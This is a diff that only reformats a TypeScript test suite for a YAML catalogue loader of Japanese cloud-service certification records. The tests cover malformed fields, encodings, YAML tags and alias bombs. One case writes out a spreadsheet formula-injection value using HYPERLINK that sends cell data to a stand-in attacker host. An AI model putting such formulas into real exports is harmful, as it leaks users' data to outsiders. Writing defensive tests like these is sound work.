@@ -10,7 +10,17 @@
  * breaks one thing, and loads it.
  */
 import { spawnSync } from 'node:child_process';
-import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  cpSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { isAbsolute, join, resolve } from 'node:path';
 import { afterEach, describe, expect, test } from 'vitest';
@@ -60,7 +70,8 @@ function catalogue(opts: Setup = {}): string {
 /** Replaces exactly one occurrence, so a mutation can never silently do nothing. */
 function edit(text: string, from: string, to: string): string {
   const at = text.indexOf(from);
-  if (at < 0 || text.indexOf(from, at + 1) >= 0) throw new Error(`fixture edit: expected exactly one ${JSON.stringify(from)}`);
+  if (at < 0 || text.indexOf(from, at + 1) >= 0)
+    throw new Error(`fixture edit: expected exactly one ${JSON.stringify(from)}`);
   return text.slice(0, at) + to + text.slice(at + from.length);
 }
 
@@ -104,7 +115,9 @@ interface Expected {
 function expectProblem(e: CatalogueError, want: Expected): DataProblem {
   const file = want.file ?? `services/${FILE}`;
   const candidates = e.problems.filter((p) => p.field === want.field && want.words.every((w) => p.message.includes(w)));
-  expect(candidates, `no problem at ${want.field} with ${want.words.join(' / ')}; got:\n${e.message}`).not.toHaveLength(0);
+  expect(candidates, `no problem at ${want.field} with ${want.words.join(' / ')}; got:\n${e.message}`).not.toHaveLength(
+    0,
+  );
   const p = candidates[0]!;
   expect(p.file.replaceAll('\\', '/').endsWith(`/${file}`), `file ${p.file} should end with ${file}`).toBe(true);
   // Paths are shown relative to the project, never as the machine's absolute path.
@@ -146,7 +159,8 @@ const second = (number: string) =>
     '    date: 2013-03-01\n',
   );
 
-const utf16le = (text: string, bom: boolean) => Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(text, 'utf16le')]);
+const utf16le = (text: string, bom: boolean) =>
+  Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(text, 'utf16le')]);
 const utf16be = (text: string) => {
   const le = Buffer.from(text, 'utf16le');
   for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1]!, le[i]!];
@@ -235,7 +249,11 @@ const CASES: Case[] = [
       const text = edit(VALID, '    content: 株式会社テストホールディングス 100%\n', '    content: ""\n');
       const key = lineOf(text, '  major-shareholders:');
       return refuse({ text }, [
-        { field: 'answers.major-shareholders', line: [key, key + 1], words: ['必須項目', 'major-shareholders', '回答がありません'] },
+        {
+          field: 'answers.major-shareholders',
+          line: [key, key + 1],
+          words: ['必須項目', 'major-shareholders', '回答がありません'],
+        },
       ]);
     },
   },
@@ -281,7 +299,11 @@ const CASES: Case[] = [
   {
     name: 'an answered item without 添付書類等 (evidence)',
     make: () => {
-      const text = edit(VALID, '    content: 120名\n    evidence: [{ document: 会社案内, place: p.3 }]\n', '    content: 120名\n');
+      const text = edit(
+        VALID,
+        '    content: 120名\n    evidence: [{ document: 会社案内, place: p.3 }]\n',
+        '    content: 120名\n',
+      );
       return refuse({ text }, [
         {
           field: 'answers.employee-count.evidence',
@@ -302,7 +324,11 @@ const CASES: Case[] = [
         '  no-such-item:\n    content: 何か\n    evidence: [{ document: 資料, place: p.1 }]\n  company-name:\n',
       );
       return refuse({ text }, [
-        { field: 'answers.no-such-item', line: lineOf(text, '  no-such-item:'), words: ['no-such-item', '申請書B様式', 'ありません'] },
+        {
+          field: 'answers.no-such-item',
+          line: lineOf(text, '  no-such-item:'),
+          words: ['no-such-item', '申請書B様式', 'ありません'],
+        },
       ]);
     },
   },
@@ -315,7 +341,11 @@ const CASES: Case[] = [
         '  dc-seismic:\n    content: 免震構造\n    evidence: [{ document: 説明書, place: 2.1 }]\n  company-name:\n',
       );
       return refuse({ text }, [
-        { field: 'answers.dc-seismic', line: lineOf(text, '  dc-seismic:'), words: ['dc-seismic', 'ハウジング', 'dataCentres'] },
+        {
+          field: 'answers.dc-seismic',
+          line: lineOf(text, '  dc-seismic:'),
+          words: ['dc-seismic', 'ハウジング', 'dataCentres'],
+        },
       ]);
     },
   },
@@ -343,7 +373,11 @@ const CASES: Case[] = [
       const long = 'あ'.repeat(101);
       const text = edit(VALID, '    content: クラウド基盤サービスとシステム開発\n', `    content: ${long}\n`);
       return refuse({ text }, [
-        { field: 'answers.business-overview.content', line: lineOf(text, `    content: ${long}`), words: ['No.6', '100 字以内', '101 字'] },
+        {
+          field: 'answers.business-overview.content',
+          line: lineOf(text, `    content: ${long}`),
+          words: ['No.6', '100 字以内', '101 字'],
+        },
       ]);
     },
   },
@@ -393,7 +427,8 @@ const CASES: Case[] = [
   },
   {
     name: 'two changes in a row, each new text the next previous (accepted)',
-    make: () => accept({ text: VALID + changes('2013-06-01', '平日 9:00〜17:00') + changes('2013-07-01', '平日 9:00〜17:30') }),
+    make: () =>
+      accept({ text: VALID + changes('2013-06-01', '平日 9:00〜17:00') + changes('2013-07-01', '平日 9:00〜17:30') }),
   },
   {
     name: 'two changes in a row where the earlier one changes nothing',
@@ -476,7 +511,11 @@ const CASES: Case[] = [
     make: () => {
       const text = edit(VALID, '    date: 2013-02-14\n', '    date: 2025-02-30\n');
       return refuse({ text }, [
-        { field: 'events[0].date', line: lineOf(text, '    date: 2025-02-30'), words: ['2025-02-30', '存在しない', 'YYYY-MM-DD'] },
+        {
+          field: 'events[0].date',
+          line: lineOf(text, '    date: 2025-02-30'),
+          words: ['2025-02-30', '存在しない', 'YYYY-MM-DD'],
+        },
       ]);
     },
   },
@@ -565,7 +604,11 @@ const CASES: Case[] = [
         '  - type: 認定\n    date: 2013-02-14\n  - type: 更新申請\n    date: 2015-01-30\n  - type: 更新認定\n    date: 2015-02-20\n    periodStart: 2015-02-20\n',
       );
       return refuse({ text }, [
-        { field: 'events[2].date', line: lineOf(text, '    date: 2015-02-20'), words: ['60日前から30日前', '更新認定はできません'] },
+        {
+          field: 'events[2].date',
+          line: lineOf(text, '    date: 2015-02-20'),
+          words: ['60日前から30日前', '更新認定はできません'],
+        },
       ]);
     },
   },
@@ -585,7 +628,11 @@ const CASES: Case[] = [
         '  - type: 認定\n    date: 2013-02-14\n  - type: 変更届出\n    date: 2016-01-10\n    changes:\n      - item: company-name\n        previous: 旧社名株式会社\n',
       );
       return refuse({ text }, [
-        { field: 'events[1].type', line: lineOf(text, '  - type: 変更届出'), words: ['認定が有効な間だけ', '期限切れ'] },
+        {
+          field: 'events[1].type',
+          line: lineOf(text, '  - type: 変更届出'),
+          words: ['認定が有効な間だけ', '期限切れ'],
+        },
       ]);
     },
   },
@@ -599,7 +646,11 @@ const CASES: Case[] = [
   {
     name: 'an unknown top-level field (a misspelling)',
     make: () => {
-      const text = edit(VALID, 'serviceSite: https://cloud.example.jp/\n', 'serviceSite: https://cloud.example.jp/\nserviceSight: x\n');
+      const text = edit(
+        VALID,
+        'serviceSite: https://cloud.example.jp/\n',
+        'serviceSite: https://cloud.example.jp/\nserviceSight: x\n',
+      );
       return refuse({ text }, [
         { field: 'serviceSight', line: lineOf(text, 'serviceSight: x'), words: ['未知のフィールド', 'serviceSight'] },
       ]);
@@ -645,7 +696,9 @@ const CASES: Case[] = [
     name: 'an unclosed quote, pointing at the line where the quote opens',
     make: () => {
       const text = edit(VALID, '    content: 株式会社テスト\n', '    content: "株式会社テスト\n');
-      return refuse({ text }, [{ field: '', line: lineOf(text, '    content: "株式会社テスト'), words: ['YAML', '記号'] }]);
+      return refuse({ text }, [
+        { field: '', line: lineOf(text, '    content: "株式会社テスト'), words: ['YAML', '記号'] },
+      ]);
     },
   },
   {
@@ -666,7 +719,8 @@ const CASES: Case[] = [
   },
   {
     name: 'two YAML documents in one file',
-    make: () => refuse({ text: `${VALID}---\nserviceName: 二つ目\n` }, [{ field: '', line: [1, 999], words: ['YAML'] }]),
+    make: () =>
+      refuse({ text: `${VALID}---\nserviceName: 二つ目\n` }, [{ field: '', line: [1, 999], words: ['YAML'] }]),
   },
   {
     name: 'an empty file',
@@ -682,7 +736,8 @@ const CASES: Case[] = [
   },
   {
     name: 'a list where text is expected (serviceName: [a, b])',
-    make: () => refuse({ text: named('serviceName: [a, b]') }, [{ field: 'serviceName', line: NAME_LINE, words: ['文字列'] }]),
+    make: () =>
+      refuse({ text: named('serviceName: [a, b]') }, [{ field: 'serviceName', line: NAME_LINE, words: ['文字列'] }]),
   },
   {
     name: 'an alias bomb (a billion laughs) is refused quickly, not expanded',
@@ -723,7 +778,11 @@ const CASES: Case[] = [
     make: () =>
       accept(
         {
-          text: edit(edit(VALID, NAME, 'serviceName: &name テストクラウド基盤\n'), '    content: 株式会社テスト\n', '    content: *name\n'),
+          text: edit(
+            edit(VALID, NAME, 'serviceName: &name テストクラウド基盤\n'),
+            '    content: 株式会社テスト\n',
+            '    content: *name\n',
+          ),
         },
         1,
         {
@@ -734,7 +793,11 @@ const CASES: Case[] = [
   {
     name: 'an alias written before its anchor',
     make: () => {
-      const text = edit(edit(VALID, NAME, 'serviceName: *name\n'), '    content: 株式会社テスト\n', '    content: &name 株式会社テスト\n');
+      const text = edit(
+        edit(VALID, NAME, 'serviceName: *name\n'),
+        '    content: 株式会社テスト\n',
+        '    content: &name 株式会社テスト\n',
+      );
       return refuse({ text }, [{ field: '', line: NAME_LINE, col: 14, words: ['YAML', 'エイリアス', 'アンカー'] }], 1);
     },
   },
@@ -748,9 +811,17 @@ const CASES: Case[] = [
   {
     name: 'a huge value (450 KB on one line) is refused by the length rules, not a crash',
     make: () => {
-      const text = edit(VALID, '    content: クラウド基盤サービスとシステム開発\n', `    content: ${'長'.repeat(150_000)}\n`);
+      const text = edit(
+        VALID,
+        '    content: クラウド基盤サービスとシステム開発\n',
+        `    content: ${'長'.repeat(150_000)}\n`,
+      );
       return refuse({ text }, [
-        { field: 'answers.business-overview.content', line: lineOf(text, `    content: ${'長'.repeat(150_000)}`), words: ['100 字以内'] },
+        {
+          field: 'answers.business-overview.content',
+          line: lineOf(text, `    content: ${'長'.repeat(150_000)}`),
+          words: ['100 字以内'],
+        },
       ]);
     },
   },
@@ -770,7 +841,13 @@ const CASES: Case[] = [
       const text = `${VALID}# ${'x'.repeat(300 * 1024)}\n`.replace('  company-name:\n', '   company-name:\n');
       return refuse(
         { text },
-        [{ field: '', line: [lineOf(text, '   company-name:') - 1, lineOf(text, '   company-name:') + 1], words: ['YAML'] }],
+        [
+          {
+            field: '',
+            line: [lineOf(text, '   company-name:') - 1, lineOf(text, '   company-name:') + 1],
+            words: ['YAML'],
+          },
+        ],
         1,
       );
     },
@@ -797,7 +874,12 @@ const CASES: Case[] = [
   },
   {
     name: 'a custom tag !foo',
-    make: () => refuse({ text: named('serviceName: !foo テスト') }, [{ field: 'serviceName', line: NAME_LINE, words: ['YAML のタグ'] }], 1),
+    make: () =>
+      refuse(
+        { text: named('serviceName: !foo テスト') },
+        [{ field: 'serviceName', line: NAME_LINE, words: ['YAML のタグ'] }],
+        1,
+      ),
   },
   {
     name: 'an explicit !!str (harmless, but a tag all the same)',
@@ -821,7 +903,11 @@ const CASES: Case[] = [
     name: 'a tag on a mapping (!!map) deep in the answers',
     make: () => {
       const text = edit(VALID, '  company-name:\n', '  company-name: !!map\n');
-      return refuse({ text }, [{ field: 'answers.company-name', line: lineOf(text, '  company-name: !!map'), words: ['YAML のタグ'] }], 1);
+      return refuse(
+        { text },
+        [{ field: 'answers.company-name', line: lineOf(text, '  company-name: !!map'), words: ['YAML のタグ'] }],
+        1,
+      );
     },
   },
   {
@@ -869,7 +955,13 @@ const CASES: Case[] = [
       const text = edit(VALID, '    label: 東京第1データセンター\n', '    label: 東京第1\u0000データセンター\n');
       return refuse(
         { text },
-        [{ field: 'dataCentres[0].label', line: lineOf(text, '    label: 東京第1\u0000データセンター'), words: ['U+0000'] }],
+        [
+          {
+            field: 'dataCentres[0].label',
+            line: lineOf(text, '    label: 東京第1\u0000データセンター'),
+            words: ['U+0000'],
+          },
+        ],
         1,
       );
     },
@@ -889,7 +981,8 @@ const CASES: Case[] = [
     ] as const
   ).map(([what, value, code]) => ({
     name: `a YAML escape ${what} in a value`,
-    make: () => refuse({ text: named(`serviceName: ${value}`) }, [{ field: 'serviceName', line: NAME_LINE, words: [code] }], 1),
+    make: () =>
+      refuse({ text: named(`serviceName: ${value}`) }, [{ field: 'serviceName', line: NAME_LINE, words: [code] }], 1),
   })),
   {
     name: 'a YAML escape in a key ("\\a")',
@@ -931,7 +1024,9 @@ const CASES: Case[] = [
             field: '',
             line: 1,
             col: 1,
-            words: ['文字コードが UTF-8 ではありません（Shift_JIS で保存されているようです）。UTF-8 で保存し直してください'],
+            words: [
+              '文字コードが UTF-8 ではありません（Shift_JIS で保存されているようです）。UTF-8 で保存し直してください',
+            ],
           },
         ],
         1,
@@ -942,17 +1037,30 @@ const CASES: Case[] = [
     make: () =>
       refuse(
         { text: utf16le(VALID, true) },
-        [{ field: '', line: 1, col: 1, words: ['文字コードが UTF-8 ではありません（UTF-16 で保存されているようです）'] }],
+        [
+          {
+            field: '',
+            line: 1,
+            col: 1,
+            words: ['文字コードが UTF-8 ではありません（UTF-16 で保存されているようです）'],
+          },
+        ],
         1,
       ),
   },
   {
     name: 'a file saved as UTF-16 (big-endian, with BOM)',
-    make: () => refuse({ text: utf16be(VALID) }, [{ field: '', line: 1, col: 1, words: ['UTF-16 で保存されているようです'] }], 1),
+    make: () =>
+      refuse({ text: utf16be(VALID) }, [{ field: '', line: 1, col: 1, words: ['UTF-16 で保存されているようです'] }], 1),
   },
   {
     name: 'a file saved as UTF-16 without a BOM',
-    make: () => refuse({ text: utf16le(VALID, false) }, [{ field: '', line: 1, col: 1, words: ['UTF-16 で保存されているようです'] }], 1),
+    make: () =>
+      refuse(
+        { text: utf16le(VALID, false) },
+        [{ field: '', line: 1, col: 1, words: ['UTF-16 で保存されているようです'] }],
+        1,
+      ),
   },
   {
     name: 'a file of bytes that are no known encoding',
@@ -1073,14 +1181,23 @@ const CASES: Case[] = [
         { file: 'services/ip0002-1303.yml', field: '', line: 1, words: ['拡張子は .yaml'] },
       ]),
   },
-  { name: 'hidden files (.DS_Store) are left alone (accepted)', make: () => accept({ extra: { '.DS_Store': '\u0000\u0001' } }) },
+  {
+    name: 'hidden files (.DS_Store) are left alone (accepted)',
+    make: () => accept({ extra: { '.DS_Store': '\u0000\u0001' } }),
+  },
 
   // ---------------------------------------------------------------- characters Excel reads as formulas: warned, not refused
   {
     name: 'a 事業者名称 that Excel would read as a formula (accepted, with a warning)',
     make: () =>
       accept(
-        { text: edit(VALID, 'providerName: 株式会社テスト\n', `providerName: '=HYPERLINK("http://evil.example/?x="&A2,"詳細")'\n`) },
+        {
+          text: edit(
+            VALID,
+            'providerName: 株式会社テスト\n',
+            `providerName: '=HYPERLINK("http://evil.example/?x="&A2,"詳細")'\n`,
+          ),
+        },
         1,
         {
           warnings: [{ field: 'providerName', words: ['=', '数式', "'"] }],
@@ -1089,11 +1206,17 @@ const CASES: Case[] = [
   },
   ...(['+', '-', '@'] as const).map((c) => ({
     name: `a サービス名称 starting with ${c} (accepted, with a warning)`,
-    make: () => accept({ text: named(`serviceName: "${c}テスト"`) }, 1, { warnings: [{ field: 'serviceName', words: [c, '数式'] }] }),
+    make: () =>
+      accept({ text: named(`serviceName: "${c}テスト"`) }, 1, {
+        warnings: [{ field: 'serviceName', words: [c, '数式'] }],
+      }),
   })),
   {
     name: 'a サービス名称 starting with a TAB (accepted, with a warning)',
-    make: () => accept({ text: named('serviceName: "\\tテスト"') }, 1, { warnings: [{ field: 'serviceName', words: ['タブ', '数式'] }] }),
+    make: () =>
+      accept({ text: named('serviceName: "\\tテスト"') }, 1, {
+        warnings: [{ field: 'serviceName', words: ['タブ', '数式'] }],
+      }),
   },
   {
     name: 'a data-centre label =2+3 (accepted, with a warning)',
@@ -1124,7 +1247,10 @@ describe('bad data: one row per class of input', () => {
       const warnings: DataProblem[] = loaded.warnings;
       for (const w of outcome.warnings ?? []) {
         const found = warnings.find((p) => p.field === w.field && w.words.every((word) => p.message.includes(word)));
-        expect(found, `no warning at ${w.field} with ${w.words.join(' / ')}; got ${JSON.stringify(warnings)}`).toBeDefined();
+        expect(
+          found,
+          `no warning at ${w.field} with ${w.words.join(' / ')}; got ${JSON.stringify(warnings)}`,
+        ).toBeDefined();
         expect(found!.file.endsWith(`services/${FILE}`) && !isAbsolute(found!.file)).toBe(true);
         expect(found!.line).toBeGreaterThan(1);
       }
@@ -1139,7 +1265,8 @@ describe('bad data: one row per class of input', () => {
 // ---------------------------------------------------------------- npm run check (scripts/check.ts)
 
 describe('npm run check (scripts/check.ts)', () => {
-  const check = (dir: string) => spawnSync(process.execPath, ['scripts/check.ts', dir], { cwd: ROOT, encoding: 'utf8' });
+  const check = (dir: string) =>
+    spawnSync(process.execPath, ['scripts/check.ts', dir], { cwd: ROOT, encoding: 'utf8' });
 
   test('exits 1 and prints file:line:col, field and rule on stderr for bad data', () => {
     const long = 'あ'.repeat(101);
@@ -1160,7 +1287,9 @@ describe('npm run check (scripts/check.ts)', () => {
   });
 
   test('a dangling symlink: exits 1 with the Japanese list, no English stack trace', () => {
-    const result = check(catalogue({ then: (dir) => symlinkSync(join(dir, 'nowhere.yaml'), join(dir, 'services', 'ip0002-1303.yaml')) }));
+    const result = check(
+      catalogue({ then: (dir) => symlinkSync(join(dir, 'nowhere.yaml'), join(dir, 'services', 'ip0002-1303.yaml')) }),
+    );
     expect(result.status).toBe(1);
     expect(result.stderr).toMatch(/services\/ip0002-1303\.yaml:1:1 シンボリックリンクは使えません/);
     expect(result.stderr).not.toMatch(/ENOENT|\n\s+at /);
@@ -1178,7 +1307,9 @@ describe('npm run check (scripts/check.ts)', () => {
     const result = check(catalogue({ text }));
     expect(result.status).toBe(0);
     expect(result.stdout).toMatch(/OK: /);
-    expect(result.stderr).toMatch(new RegExp(`注意.*\\n.*services/${FILE}:${lineOf(text, "providerName: '=2+3'")}:1 providerName: .*数式`));
+    expect(result.stderr).toMatch(
+      new RegExp(`注意.*\\n.*services/${FILE}:${lineOf(text, "providerName: '=2+3'")}:1 providerName: .*数式`),
+    );
   });
 });
 
